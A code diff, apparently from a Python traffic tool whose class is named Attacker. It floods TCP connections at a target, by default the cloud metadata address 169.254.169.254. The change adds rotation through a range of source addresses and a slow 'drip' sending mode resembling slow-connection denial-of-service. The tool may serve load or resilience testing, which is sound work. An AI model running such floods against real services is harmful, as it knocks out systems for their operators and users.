@@ -9,6 +9,7 @@ from __future__ import annotations
 
 import collections
 import errno
+import ipaddress
 import json
 import re
 import select
@@ -17,7 +18,9 @@ import struct
 import sys
 import time
 
-IP_BIND_ADDRESS_NO_PORT = 24  # linux/in.h: the port is chosen by connect(2), so that other addresses may have it too
+IP_BIND_ADDRESS_NO_PORT = (
+    24  # linux/in.h: the port is chosen by connect(2), so that other addresses may have it too
+)
 STATUS = re.compile(rb"HTTP/1\.1 ([0-9]{3}) ")
 TAIL = 12
 """Bytes of a status line's beginning that may be cut in two."""
@@ -29,8 +32,10 @@ class Plan:
     """What the attack is; a plan in JSON has these names, missing ones have these values."""
 
     target = ("169.254.169.254", 80)
-    sources: tuple[str, ...] = ()
-    """Addresses of ours, used in turn; none: the kernel's choice."""
+    first_source = ""
+    """The first of our addresses; none: the kernel's choice."""
+    sources = 1
+    """So many of them, one after the other, are used in turn."""
     connections = 1
     """Open at once."""
     total = 0
@@ -40,8 +45,11 @@ class Plan:
     seconds = 0.0
     """0: until the end of the standard input."""
     send = ""
-    repeat = 1
-    """Times that send is sent; 0: for ever."""
+    """What a connection begins with; it may be nothing."""
+    then = ""
+    """What it goes on with, over and over, as fast as it is taken."""
+    drip = 0.0
+    """Seconds between two of those; 0: none."""
     read = True
     receive_buffer = 0
     end_after = ""
@@ -63,15 +71,13 @@ class Plan:
 
 
 class Connection:
-    __slots__ = ("answered", "began", "ending", "socket", "tail", "to_send", "unsent")
+    __slots__ = ("answered", "began", "ending", "sent", "socket", "tail", "unsent")
 
-    def __init__(self, own: socket.socket, now: float, plan: Plan) -> None:
+    def __init__(self, own: socket.socket, now: float, begin: bytes) -> None:
         self.socket = own
         self.began = now
-        self.unsent = b""
-        self.to_send = plan.repeat if plan.send else 0
-        if plan.send and plan.repeat == 0:
-            self.to_send = -1
+        self.unsent = begin
+        self.sent = False
         self.answered = False
         self.ending = False
         self.tail = b""
@@ -80,15 +86,17 @@ class Connection:
 class Attacker:
     def __init__(self, plan: Plan) -> None:
         self.plan = plan
+        self.begin = plan.send.encode("latin-1")
         # Many copies in one piece: each send(2) takes as much as the kernel has room for.
-        self.piece = plan.send.encode("latin-1")
-        self.copies = max(1, 65536 // max(1, len(self.piece)))
-        if plan.repeat:
-            self.copies = min(self.copies, plan.repeat)
+        self.more = plan.then.encode("latin-1")
+        if self.more and not plan.drip:
+            self.more *= max(1, 65536 // len(self.more))
+        self.first = int(ipaddress.ip_address(plan.first_source)) if plan.first_source else 0
         self.epoll = select.epoll()
         self.connections: dict[int, Connection] = {}
         self.connecting: set[int] = set()
         self.ends: collections.deque[tuple[float, int, Connection]] = collections.deque()
+        self.drips: collections.deque[tuple[float, int, Connection]] = collections.deque()
         self.counts: collections.Counter[str] = collections.Counter()
         self.statuses: collections.Counter[str] = collections.Counter()
         self.times: dict[str, list[float]] = collections.defaultdict(list)
@@ -112,15 +120,15 @@ class Attacker:
                 _, number, connection = self.ends.popleft()
                 if self.connections.get(number) is connection:
                     self.end(number, connection)
+            while self.drips and self.drips[0][0] <= now:
+                _, number, connection = self.drips.popleft()
+                if self.connections.get(number) is connection:
+                    connection.unsent = self.more
+                    self.send(number, connection)
             if now >= tell_at:
                 self.tell(last=False)
                 tell_at = now + TELL_EVERY
-            if opened and not plan.rate:
-                wait = 0.0
-            elif self.ends:
-                wait = min(max(self.ends[0][0] - now, 0.0), 0.02)
-            else:
-                wait = 0.02
+            wait = 0.0 if opened and not plan.rate else 0.02
             for number, events in self.epoll.poll(wait, 512):
                 if number == sys.stdin.fileno():
                     self.finish()
@@ -172,9 +180,10 @@ class Attacker:
         own.setblocking(False)
         if plan.receive_buffer:
             own.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, plan.receive_buffer)
-        if plan.sources:
+        if self.first:
             own.setsockopt(socket.IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, 1)
-            own.bind((plan.sources[self.counts["started"] % len(plan.sources)], 0))
+            source = ipaddress.ip_address(self.first + self.counts["started"] % plan.sources)
+            own.bind((str(source), 0))
         self.counts["started"] += 1
         error = own.connect_ex(tuple(plan.target))
         if error not in (0, errno.EINPROGRESS):
@@ -182,7 +191,7 @@ class Attacker:
             own.close()
             return False  # no ports are left, or no route: try later
         number = own.fileno()
-        self.connections[number] = Connection(own, now, plan)
+        self.connections[number] = Connection(own, now, self.begin)
         self.connecting.add(number)
         self.epoll.register(number, select.EPOLLOUT)
         return True
@@ -214,33 +223,36 @@ class Attacker:
 
     def watch(self, number: int, connection: Connection) -> None:
         events = select.EPOLLIN if self.plan.read else select.EPOLLRDHUP
-        if connection.to_send or connection.unsent:
+        if connection.unsent or not connection.sent:
             events |= select.EPOLLOUT
         self.epoll.modify(number, events)
 
     def send(self, number: int, connection: Connection) -> None:
-        if not connection.unsent:
-            if connection.to_send == 0:
+        if connection.unsent:
+            try:
+                sent = connection.socket.send(connection.unsent)
+            except BlockingIOError:
                 return
-            copies = self.copies if connection.to_send < 0 else min(self.copies, connection.to_send)
-            if connection.to_send > 0:
-                connection.to_send -= copies
-            connection.unsent = self.piece * copies
-        try:
-            sent = connection.socket.send(connection.unsent)
-        except BlockingIOError:
-            return
-        except OSError as error:
-            self.failed(error.errno or 0)
-            self.forget(number, connection)
-            return
-        self.counts["bytes_sent"] += sent
-        connection.unsent = connection.unsent[sent:]
-        if not connection.unsent and connection.to_send == 0:
+            except OSError as error:
+                self.failed(error.errno or 0)
+                self.forget(number, connection)
+                return
+            self.counts["bytes_sent"] += sent
+            connection.unsent = connection.unsent[sent:]
+            if connection.unsent:
+                return
+        if not connection.sent:
+            connection.sent = True
             self.counts["sent"] += 1
-            self.watch(number, connection)
             if self.plan.end_after == "sent":
                 self.end_soon(number, connection)
+                if self.connections.get(number) is not connection:
+                    return
+        if self.more and not self.plan.drip:
+            connection.unsent = self.more
+        elif self.more:
+            self.drips.append((time.monotonic() + self.plan.drip, number, connection))
+        self.watch(number, connection)
 
     def receive(self, number: int, connection: Connection) -> None:
         try:
